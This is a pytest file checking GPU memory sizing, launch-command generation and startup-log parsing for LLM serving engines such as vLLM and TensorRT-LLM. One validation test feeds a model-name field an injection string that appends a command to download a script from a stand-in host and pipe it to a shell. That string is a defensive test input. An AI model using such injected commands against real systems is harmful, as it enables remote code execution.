"""Sizing math (app/sizing): pure functions checked against DESIGN §7 and published engine logs."""

from __future__ import annotations

import pytest

from app.sizing.catalog import GPUS, MODELS, ModelSpec, dtype_supported
from app.sizing.commands import nim_env, trtllm_command, vllm_command
from app.sizing.logparse import parse_startup_log
from app.sizing.memory import kv_bytes_per_token, replica_memory
from app.sizing.profile import EngineProfile
from app.sizing.recommend import Bounds, Traffic, bounds_from_traffic, round_up
from app.sizing.rightsize import proposed_bounds, rightsize
from app.sizing.status import engine_status

GB = 1e9


def test_the_worked_example_of_design_7():
    """8B params in FP16 on a 20 GB GPU: 16 GB weights, 4 GB left, ~30,500 tokens of KV."""
    model = ModelSpec("x", "x", 8e9, 32, 8, 128, 4096, 8192)
    mem = replica_memory(
        model,
        gpu_memory_bytes=20 * GB,
        gpus=1,
        weight_dtype="fp16",
        kv_dtype="fp16",
        memory_fraction=1.0,
        overhead=0,
    )
    assert mem.weights == 16 * GB and mem.kv_budget == 4 * GB
    assert mem.kv_per_token == 131_072
    assert mem.kv_capacity_tokens == 30_517  # "about 30,500"
    assert mem.kv_capacity_tokens // 4000 == 7  # about 7 requests of 4,000 tokens
    assert mem.kv_capacity_tokens // 1300 == 23  # about 23 of 1,300


@pytest.mark.parametrize(
    ("model", "expected"),
    [("llama-3.1-8b", 131_072), ("llama-3.1-70b", 327_680), ("qwen2.5-7b", 57_344)],
)
def test_kv_bytes_per_token_in_bf16(model, expected):
    assert kv_bytes_per_token(MODELS[model], "bf16") == expected
    assert kv_bytes_per_token(MODELS[model], "fp8") == expected // 2


# The calibration against published startup logs is tests/unit/app/sizing/test_calibration.py.


def test_fp8_and_fp4_need_the_right_gpu():
    for name in ("A100-40GB", "A100-80GB", "A10G"):
        assert "no FP8" in dtype_supported(GPUS[name], "fp8")
    for name in ("H100", "L40S", "H200", "B200", "L4"):
        assert dtype_supported(GPUS[name], "fp8") is None
    fp4 = [g for g in GPUS if dtype_supported(GPUS[g], "fp4") is None]
    assert fp4 == ["B200", "B300", "GB200", "RTX-PRO-6000", "RTX-5090"]  # Blackwell only
    assert "no FP8" in dtype_supported(GPUS["RTX-3090"], "fp8")
    assert dtype_supported(GPUS["RTX-4090"], "fp8") is None


PROFILE = EngineProfile(
    model="llama-3.1-8b",
    gpu="H100",
    framework="vllm",
    max_input_len=4096,
    max_seq_len=8192,
    max_batch_size=64,
    max_num_tokens=8192,
)
RECOMMENDED = Bounds(1536, 2048, 768, 96, 2048)


def test_exact_commands_for_each_framework():
    assert vllm_command(PROFILE, RECOMMENDED) == (
        "vllm serve meta-llama/Llama-3.1-8B-Instruct --max-model-len 2048 --max-num-seqs 96 "
        "--max-num-batched-tokens 2048 --gpu-memory-utilization 0.9"
    )
    fp8 = PROFILE.model_copy(update={"kv_dtype": "fp8", "tensor_parallel": 2})
    assert vllm_command(fp8, RECOMMENDED).endswith(
        "--gpu-memory-utilization 0.9 --kv-cache-dtype fp8"
    )
    assert "--tensor-parallel-size 2" in vllm_command(fp8, RECOMMENDED)
    assert trtllm_command(PROFILE, RECOMMENDED) == (
        "trtllm-build --checkpoint_dir ./checkpoint --output_dir ./engine --max_input_len 1536 "
        "--max_seq_len 2048 --max_batch_size 96 --max_num_tokens 2048"
    )
    assert nim_env(PROFILE, RECOMMENDED) == (
        "NIM_MODEL_PATH=hf://meta-llama/Llama-3.1-8B-Instruct\n"
        "NIM_MAX_MODEL_LEN=2048\n"
        "NIM_PASSTHROUGH_ARGS='--max-num-seqs 96 --max-num-batched-tokens 2048'"
    )


def test_startup_log_lines_give_the_measured_capacity():
    vllm = "INFO [kv_cache_utils.py:1319] GPU KV cache size: 476,016 tokens\nother line"
    assert parse_startup_log(vllm).kv_tokens == 476_016
    old = "INFO executor_base.py:108] # CUDA blocks: 2356, # CPU blocks: 2048"
    assert parse_startup_log(old).kv_tokens == 2356 * 16
    trt = (
        "[TensorRT-LLM][INFO] [MemUsageChange] Allocated 52.07 GiB for max tokens in paged "
        "KV cache (426496)."
    )
    measured = parse_startup_log(trt)
    assert measured.kv_tokens == 426_496 and measured.framework == "trtllm"
    ranks = "GPU KV cache size: 900 tokens\nGPU KV cache size: 800 tokens"
    assert parse_startup_log(ranks).kv_tokens == 800  # the smallest rank bounds the engine
    assert parse_startup_log("nothing useful here") is None


def _traffic(isl=1200.0, osl=500.0, seq=1600.0, n=50_000) -> Traffic:
    return Traffic(n, isl, osl, seq, 900.0, 20.0, 6.0, 30_000.0)


def test_bounds_round_up_and_respect_the_model_context():
    assert round_up(1, 256) == 256 and round_up(256, 256) == 256 and round_up(257, 256) == 512
    b, notes = bounds_from_traffic(_traffic(), 131_072)
    assert (b.max_input_len, b.max_output_len, b.max_seq_len) == (1280, 512, 1792)
    assert notes == []
    # max_seq_len never below a full prompt plus one granule of output
    b, _ = bounds_from_traffic(_traffic(isl=2000, seq=2010), 131_072)
    assert b.max_seq_len == 2048 + 256
    capped, notes = bounds_from_traffic(_traffic(isl=9000, seq=12000), 8192)
    assert capped.max_seq_len == 8192 and "capped" in notes[0]


def test_an_over_provisioned_engine_gets_a_gain_in_plain_words():
    t = _traffic()
    rec, notes = proposed_bounds(PROFILE, t, 256)
    r = rightsize("chat-8b", PROFILE, t, rec, (3, 40))
    assert r.status == "ok" and r.rejected_current == 3
    assert r.capacity_after.worst > r.capacity_now.worst
    # vLLM's paged cache: the verdict leads with the expected concurrency of the real traffic
    # (which barely moves here), the full-length worst case second.
    assert "Built for 4,096-token prompts" in r.verdict and "changes little" in r.verdict
    assert "expected with a paged KV cache" in r.verdict
    assert f"{r.capacity_now.worst:,} → {r.capacity_after.worst:,} full-length" in r.verdict
    assert engine_status(r).key == "fits"  # a worst-case gain alone is no reason to rebuild
    # TensorRT-LLM reserves max_seq_len per request: there the full-length gain is the real one.
    trt = PROFILE.model_copy(update={"framework": "trtllm"})
    rt = rightsize("chat-8b", trt, t, rec, (3, 40))
    assert "TensorRT-LLM reserves max_seq_len" in rt.verdict and not rt.paged
    assert engine_status(rt).key == "rebuild-suggested"
    assert set(r.commands) == {"vllm", "trtllm", "nim", "sglang"}
    assert r.commands["sglang"].startswith("python -m sglang.launch_server --model-path ")
    labels = {w.label: w for w in r.whatifs}
    assert labels["FP4 weights"].reason and "Blackwell" in labels["FP4 weights"].reason
    assert labels["FP8 KV cache"].reason is None
    assert labels["FP8 KV cache"].memory.kv_capacity_tokens > r.memory_after.kv_capacity_tokens
    assert "quality check" in labels["FP8 KV cache"].caveat


def test_no_data_and_weights_that_do_not_fit_are_verdicts_not_crashes():
    empty = Traffic(0, None, None, None, None, 0.0, None, 0.0)
    r = rightsize("idle", PROFILE, empty, None, (None, None))
    assert r.status == "no-data" and "Not enough data" in r.verdict
    big = EngineProfile(model="llama-3.1-405b", gpu="H100", max_input_len=4096, max_seq_len=8192)
    r = rightsize("huge", big, _traffic(), None, (None, None))
    assert r.status == "does-not-fit" and "does not fit" in r.verdict
    assert r.memory_now.kv_capacity_tokens == 0  # never a negative capacity


def test_profiles_name_what_is_wrong():
    with pytest.raises(ValueError, match="unknown gpu 'H1000'"):
        EngineProfile(model="llama-3.1-8b", gpu="H1000")
    with pytest.raises(ValueError, match="a custom model needs params"):
        EngineProfile(model="custom", gpu="H100")
    with pytest.raises(ValueError, match="max_input_len must be smaller"):
        EngineProfile(model="llama-3.1-8b", gpu="H100", max_input_len=8192, max_seq_len=4096)


def test_profiles_refuse_what_the_gpu_or_model_cannot_do():
    with pytest.raises(ValueError, match="A100-80GB .* no FP8"):
        EngineProfile(model="llama-3.1-8b", gpu="A100-80GB", weight_dtype="fp8")
    with pytest.raises(ValueError, match="beyond the model's context of 32,768"):
        EngineProfile(model="qwen2.5-7b", gpu="H100", max_input_len=1024, max_seq_len=65536)
    with pytest.raises(ValueError, match="kv_dtype"):
        EngineProfile(model="llama-3.1-8b", gpu="H100", kv_dtype="int4")
    with pytest.raises(ValueError, match="hf_model"):
        EngineProfile(model="llama-3.1-8b", gpu="H100", hf_model="x/y; curl evil.sh|sh #")


def test_a_logged_capacity_wins_and_what_ifs_are_scaled_estimates():
    logged = PROFILE.model_copy(update={"measured_kv_tokens": 100_000})
    estimate = PROFILE.model_copy(update={"measured_kv_tokens": None})
    t = _traffic()
    rec, _ = proposed_bounds(logged, t, 256)
    r = rightsize("chat-8b", logged, t, rec, (0, 0))
    assert r.memory_now.measured and r.memory_now.kv_capacity_tokens == 100_000
    h200 = next(w for w in r.whatifs if w.label.startswith("H200"))
    assert not h200.memory.measured  # another GPU is an estimate, never the old log
    plain = next(
        w for w in rightsize("x", estimate, t, rec, (0, 0)).whatifs if w.label.startswith("H200")
    )
    # scaled by logged / estimated for today's build
    now_estimate = rightsize("x", estimate, t, rec, (0, 0)).memory_now.kv_capacity_tokens
    ratio = 100_000 / now_estimate
    assert abs(h200.memory.kv_capacity_tokens - plain.memory.kv_capacity_tokens * ratio) <= 1
    # a logged capacity also settles "fits": the estimate's budget does not matter then
    tiny = PROFILE.model_copy(update={"gpu_memory_gib": 10.0, "measured_kv_tokens": 20_000})
    assert rightsize("tiny", tiny, t, rec, (0, 0)).status == "ok"


def test_tensorrt_llm_memory_fraction_is_a_share_of_free_memory():
    model = MODELS["llama-3.1-8b"]
    kw = {"gpu_memory_bytes": 80 * GB, "gpus": 1, "weight_dtype": "bf16", "kv_dtype": "bf16"}
    vllm = replica_memory(model, memory_fraction=0.9, overhead=4 * GB, **kw)
    trt = replica_memory(model, memory_fraction=0.9, overhead=4 * GB, fraction_of_free=True, **kw)
    assert vllm.kv_budget == pytest.approx(80 * GB * 0.9 - vllm.weights - 4 * GB)
    assert trt.kv_budget == pytest.approx((80 * GB - trt.weights - 4 * GB) * 0.9)


def test_block_counts_of_several_ranks_take_the_smallest():
    log = "rank0 # GPU blocks: 3000, # CPU blocks: 2048\nrank1 # GPU blocks: 2900, # CPU blocks: 1"
    assert parse_startup_log(log).kv_tokens == 2900 * 16


@pytest.mark.parametrize("field", ["params", "gpu_memory_gib", "cost_per_gpu_hour"])
def test_a_profile_refuses_infinite_numbers(field):
    # Stored as JSON, which has no Infinity: the API and the editor both answer with the field.
    data = {**PROFILE.model_dump(exclude_none=True), field: float("inf")}
    with pytest.raises(ValueError, match=field):
        EngineProfile.model_validate(data)
